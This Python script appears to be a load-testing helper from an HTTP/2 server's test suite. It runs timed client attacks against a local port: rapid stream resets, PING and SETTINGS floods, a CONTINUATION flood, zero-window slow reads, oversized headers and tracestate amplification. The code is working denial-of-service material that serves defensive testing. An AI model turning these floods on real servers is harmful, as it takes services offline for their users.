#!/usr/bin/env python3
"""A client that means ill, in a process of its own: `hostile.py PORT ATTACK SECONDS`.

It does what its attack says as fast as it can, on a new connection as soon as the old one is shut,
and prints how many it used. `busy` is the one that means well: the same haste, and only requests.
"""
import pathlib
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

from support import http2, raw  # noqa: E402 (the path has to be set first)
from support.http2 import (CANCEL, CONTINUATION, END_HEADERS, END_STREAM, HEADERS,  # noqa: E402
                           INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame)

LARGE_HOST = "large.test"
STREAMS = 20_000


def over(until):
    return time.monotonic() > until


def repeat(port, until, pieces, settings=()):
    """Connections that each send what `pieces()` gives until the server has had enough."""
    count = 0
    while not over(until):
        count += 1
        try:
            client = http2.Client(port, settings=settings)
        except OSError:
            time.sleep(0.01)
            continue
        for piece in pieces():
            if over(until) or not client.send(piece):
                break
        client.close()
    return count


def whole_request(stream, fields=()):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, http2.head(fields=fields))


def busy(port, until):
    count = 0
    while not over(until):
        count += 1
        connection = raw.connect(port)
        for _ in range(100):
            connection.send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 16)
            for _ in range(16):
                connection.read_response()
        connection.close()
    return count


def resets(port, until):
    end = struct.pack(">I", CANCEL)
    return repeat(port, until, lambda: (
        whole_request(stream) + frame(RST_STREAM, 0, stream, end)
        for stream in range(1, STREAMS, 2)))


def flood(piece):
    return lambda port, until: repeat(port, until, lambda: (piece * 100 for _ in range(10_000)))


def continuations(port, until):
    start = frame(HEADERS, END_STREAM, 1, http2.head())
    more = frame(CONTINUATION, 0, 1, http2.literal("x-more", "v" * 1000))
    return repeat(port, until, lambda: [start, *[more] * 10_000])


def windows(port, until):
    """Wants much, and takes it byte by byte."""
    head = http2.head(authority=LARGE_HOST)
    streams = range(1, 200, 2)
    wanted = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, each, head) for each in streams)
    byte = struct.pack(">I", 1)
    drips = b"".join(frame(WINDOW_UPDATE, 0, each, byte) for each in streams)
    return repeat(port, until, lambda: [wanted, *[drips] * 1000],
                  settings=[(INITIAL_WINDOW_SIZE, 0)])


def large_heads(port, until):
    block = http2.head(fields=[(f"x-{index}", "v" * 4000) for index in range(100)])
    pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]

    def heads():
        for stream in range(1, STREAMS, 2):
            yield frame(HEADERS, END_STREAM, stream, pieces[0]) + b"".join(
                frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece)
                for piece in pieces[1:])
    return repeat(port, until, heads)


def tracestates(port, until):
    """Lists of members without end, in many fields, on connections of as many requests as are
    answered without reading."""
    member = ",".join(f"k{index}=v" for index in range(40))
    fields = [("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
              *[("tracestate", member)] * 40]
    return repeat(port, until, lambda: (
        b"".join(whole_request(stream + more, fields) for more in range(0, 20, 2))
        for stream in range(1, 400, 20)))


ATTACKS = {"busy": busy, "resets": resets, "pings": flood(frame(PING, 0, 0, b"12345678")),
           "settings": flood(frame(SETTINGS, 0, 0)), "continuations": continuations,
           "windows": windows, "large heads": large_heads, "tracestates": tracestates}


def main():
    port, attack, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    print(ATTACKS[attack](port, time.monotonic() + seconds))


if __name__ == "__main__":
    main()
